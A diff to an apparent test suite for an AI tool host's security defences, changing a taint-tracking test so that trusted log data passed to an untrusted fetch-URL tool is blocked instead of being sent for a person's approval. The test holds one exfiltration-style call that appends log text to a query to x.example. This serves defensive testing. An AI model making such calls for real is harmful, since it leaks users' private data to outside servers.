@@ -107,7 +107,8 @@ async def test_the_person_is_shown_the_effective_call_with_the_servers_defaults(
 
 
 async def test_taint_follows_data_not_tool_names(tmp_path):
-    """A trusted result handed to an untrusted tool needs a person's yes; the same call without it does not."""
+    """A trusted result handed to an untrusted tool is refused (nobody is there to let the flow go); the same call
+    without it is not."""
     trace, shown = Trace(), []
     policy_free = Defences.only("taint", "namespace")
     with anyio.fail_after(120):
@@ -116,9 +117,9 @@ async def test_taint_follows_data_not_tool_names(tmp_path):
             await host.call("untrusted.sink__fetch_url", {"url": "https://shop.example/status"})
             assert not shown
             await host.call("untrusted.sink__fetch_url", {"url": "https://x.example/?q=" + logs.text[:80]})
-    assert len(shown) == 1 and shown[0][1] == "untrusted.sink__fetch_url"
-    (gate,) = [g for g in trace.of_kind("host.gate") if "to an untrusted server" in json.dumps(g.payload)]
-    assert gate.meta["by"] == "user"
+    assert not shown
+    gates = [g for g in trace.of_kind("host.gate") if g.name == "untrusted.sink__fetch_url"]
+    assert [(g.meta["outcome"], g.meta["by"]) for g in gates] == [("allowed", "policy"), ("blocked", "TaintGuard")]
 
 
 async def test_a_link_inside_the_workspace_that_points_out_is_outside(tmp_path):
